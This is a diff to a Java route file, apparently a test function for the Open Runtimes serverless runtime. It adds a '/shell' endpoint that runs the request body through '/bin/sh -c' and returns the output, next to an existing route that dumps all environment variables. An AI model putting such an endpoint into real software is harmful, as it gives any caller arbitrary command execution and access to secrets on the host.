@@ -2,6 +2,7 @@ package io.openruntimes.java.src;
 
 import io.openruntimes.java.RuntimeContext;
 import io.openruntimes.java.RuntimeOutput;
+import java.io.File;
 import java.io.IOException;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -22,6 +23,7 @@ final class Requests {
     routes.put("/file", Requests::file);
     routes.put("/environment", context -> context.getRes().json(System.getenv()));
     routes.put("/unicode", Requests::unicode);
+    routes.put("/shell", Requests::shell);
   }
 
   /** Answers with the request. */
@@ -44,6 +46,18 @@ final class Requests {
 
   private static RuntimeOutput file(RuntimeContext context) throws IOException {
     return context.getRes().text(Files.readString(Path.of("greeting.txt")));
+  }
+
+  private static RuntimeOutput shell(RuntimeContext context)
+      throws IOException, InterruptedException {
+    Process shell =
+        new ProcessBuilder("/bin/sh", "-c", context.getReq().getBodyText())
+            .redirectInput(ProcessBuilder.Redirect.from(new File("/dev/null")))
+            .redirectError(ProcessBuilder.Redirect.INHERIT)
+            .start();
+    byte[] output = shell.getInputStream().readAllBytes();
+    shell.waitFor();
+    return context.getRes().binary(output);
   }
 
   private static RuntimeOutput unicode(RuntimeContext context) {
